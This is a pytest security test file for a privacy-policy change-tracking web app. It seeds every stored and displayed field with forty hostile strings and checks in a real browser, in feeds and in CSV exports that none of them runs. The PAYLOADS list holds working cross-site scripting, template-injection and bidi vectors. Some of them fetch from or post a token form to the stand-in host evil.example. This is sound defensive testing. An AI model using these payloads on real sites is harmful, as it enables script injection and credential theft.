"""Texts that pages chose to do harm, in every place where one may stand: they stay text."""

from __future__ import annotations

import csv
import io
import json
import shutil
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from pathlib import Path
from urllib.parse import quote

import pytest

from storage import appearances, checks, deliveries, documents, versions
from storage.alerts import enter, save
from storage.database import Database, Transaction
from storage.records import (
    LIVE,
    AlertEntry,
    AlertKind,
    Cause,
    CheckOutcome,
    Clause,
    ClauseKind,
    Direction,
    NewAlert,
    Severity,
)
from tests.storage.builders import a_delivery, a_finding, hours, new_version, plain_index
from tests.web.chromium import chromium, needs_browser, watched
from tests.web.library import changed
from tests.web.recorded import read_xml
from tests.web.served import Served, served

pytestmark = [needs_browser, pytest.mark.timeout(180)]

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "</title><script>alert(2)</script>",
    "</textarea><script>alert(3)</script>",
    "</style></script><script>alert(4)</script>",
    "<img src=x onerror=alert(5)>",
    "<img src=https://evil.example/pixel.png>",
    '"><img src=x onerror=alert(6)>',
    "'><img src=x onerror=alert(7)>",
    '" autofocus onfocus=alert(8) x="',
    "' onmouseover='alert(9)",
    "<svg onload=alert(10)>",
    "<svg><script>alert(11)</script></svg>",
    "<svg><animate onbegin=alert(12) attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><svg><mtext><style><path id='</style><img onerror=alert(13) src>'>",
    "<iframe src=javascript:alert(14)></iframe>",
    "<iframe srcdoc='<script>alert(15)</script>'></iframe>",
    "<object data=https://evil.example/o.swf></object>",
    "<embed src=https://evil.example/e.swf>",
    "<link rel=stylesheet href=https://evil.example/s.css>",
    "<style>@import 'https://evil.example/i.css';</style>",
    "<style>body{background:url(https://evil.example/b.png)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=token><button>Sign in</button></form>",
    "<a href=javascript:alert(16)>the policy</a>",
    "javascript:alert(17)",
    "JaVaScRiPt:alert(18)//https://acme.example/",
    "data:text/html,<script>alert(19)</script>",
    'https://acme.example/"onclick=alert(20)//',
    "<details open ontoggle=alert(21)>",
    "<video><source onerror=alert(22)></video>",
    "<body onload=alert(23)>",
    "<input autofocus onfocus=alert(24)>",
    "<marquee onstart=alert(25)>",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${alert(26)}#{alert(27)}`alert(28)`",
    "<!--><script>alert(29)</script>-->",
    "\u202e<script>\u2028alert(30)\u2029</script>\u202c",
    "&lt;script&gt;alert(31)&lt;/script&gt;&#60;img src=x onerror=alert(32)&#62;",
)
ALIVE = """
() => [...document.querySelectorAll("*")].filter((each) => {
  const text = ["SCRIPT", "STYLE"].includes(each.tagName) ? each.textContent : "";
  const names = ["src", "srcdoc", "data", "action", "content"];
  const loads = names.map((name) => each.getAttribute(name) || "").join(" ");
  return [...each.attributes].some((one) => one.name.startsWith("on")) || /evil|alert\\(/.test(text + loads);
}).map((each) => each.outerHTML)
"""
"""Elements that would run or fetch what a payload says."""


def test_there_are_forty_payloads() -> None:
    assert len(set(PAYLOADS)) == 40


@pytest.fixture(scope="module")
def site(empty_file: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    path = Path(shutil.copy(empty_file, tmp_path_factory.mktemp("hostile")))
    database = Database.open(path)
    with database.write() as transaction:
        for number, payload in enumerate(PAYLOADS):
            _fill(transaction, number, payload)
    database.close()
    with served(path) as running:
        yield running


def _fill(transaction: Transaction, number: int, payload: str) -> None:
    """A document in which every text that others choose is `payload`."""
    key = f"acme-{number}/privacy-policy"
    document = documents.ensure(
        transaction, key=key, origin=LIVE if number % 2 else payload, service=payload, kind="privacy-policy",
        region=payload, language="en", urls=(payload,), now=hours(0),
    )  # fmt: skip
    texts = (Clause(payload, ClauseKind.HEADING, 1), Clause(payload), Clause(payload, ClauseKind.LIST_ITEM, 1))
    before = _appear(transaction, document.id, payload, texts, 0)
    after = _appear(transaction, document.id, payload, (*texts, Clause(f"{payload} We may train models.")), 24)
    finding = replace(
        a_finding(), quote=f"{payload} We may train models.", heading=(payload,), matched=(payload,),
        reason=payload, title=payload, topic=payload, direction=Direction.ADDED,
    )  # fmt: skip
    change = changed(transaction, after, before, (finding,), (payload,))
    alert = save(
        transaction,
        NewAlert(AlertKind.CHANGE, LIVE, document.id, change, Severity.HIGH, payload, hours(24), hours(24)),
    )
    enter(transaction, alert, AlertEntry(hours(25), payload, "noted", payload))
    enter(transaction, alert, AlertEntry(hours(26), payload, "assigned", payload), assignee=payload)
    delivery = a_delivery(transaction, alert, recipient=payload, channel=payload)
    deliveries.mark_dead(transaction, delivery, hours(27), payload)
    checks.record(transaction, document.id, CheckOutcome.FAILED, hours(48), reason=payload, error_class=payload)


def _appear(transaction: Transaction, document_id: int, payload: str, clauses: tuple[Clause, ...], at: float):  # type: ignore[no-untyped-def]
    new = replace(new_version(clauses), title=payload, language=payload, extractor=payload, source=payload,
                  effective_date=date(2024, 4, 20))  # fmt: skip
    version = versions.save(transaction, document_id, new, base_id=None, index=plain_index)
    cause = Cause.PAGE_CHANGED if at else Cause.FIRST
    return appearances.begin(transaction, version, captured_at=hours(at), cause=cause)


def _pages() -> Iterator[str]:
    yield from ("/", "/?page=2", "/?q=acme-1", "/alerts", "/alerts?status=all&severity=high")
    yield from ("/search?q=train", "/search?q=alert&page=2", "/calendar", "/compare?left=acme-1&right=acme-2")
    for number in range(len(PAYLOADS)):
        key = f"/documents/acme-{number}/privacy-policy"
        yield (key, f"{key}/at/2", f"/alerts/{number + 1}", f"/incidents/{number + 1}")[number % 4]
        yield f"{key}/diff?from=1&to=2&view={'side' if number % 2 else 'inline'}&show=all"


def test_hostile_texts_stay_texts_on_every_page(site: Served) -> None:
    with chromium() as real, watched(real, site.origin) as visitor:
        for path in _pages():
            assert visitor.open(path) == 200, path
            assert visitor.page.evaluate(ALIVE) == [], path
            assert visitor.reports() == [], path
            schemes = visitor.page.evaluate("[...new Set([...document.links].map((link) => link.protocol))]")
            assert set(schemes) <= {"http:", "https:"}, path
        assert visitor.incidents == []


def test_hostile_texts_stay_texts_for_programs(site: Served) -> None:
    feeds = ["/feeds/all.atom", *(f"/feeds/documents/acme-{each}/privacy-policy.atom" for each in range(3))]
    assert [read_xml(site.get(feed).body).tag.rpartition("}")[2] for feed in feeds] == ["feed"] * len(feeds)
    rows = json.loads(site.get("/api/v1/changes?limit=1000").body)["items"]
    assert {row["findings"][0]["heading"][0] for row in rows} == set(PAYLOADS)
    for name in ("changes", "alerts", "documents", "calendar"):
        table = csv.reader(io.StringIO(site.get(f"/api/v1/{name}.csv?limit=1000").text, newline=""))
        assert not [cell for row in table for cell in row if cell.startswith(("=", "+", "-", "@"))]


def test_what_a_visitor_asks_for_comes_back_as_text(site: Served) -> None:
    asked = [" ".join(PAYLOADS[start : start + 8]) for start in range(0, len(PAYLOADS), 8)]
    with chromium() as real, watched(real, site.origin) as visitor:
        for text in asked:
            for path in (
                "/?q=",
                "/alerts?status=all&service=",
                "/documents/",
                "/search?q=",
                "/compare?right=x&left=",
            ):
                visitor.open(path + quote(text, safe=""))
                assert visitor.page.evaluate(ALIVE) == []
                assert visitor.reports() == []
        assert visitor.incidents == []
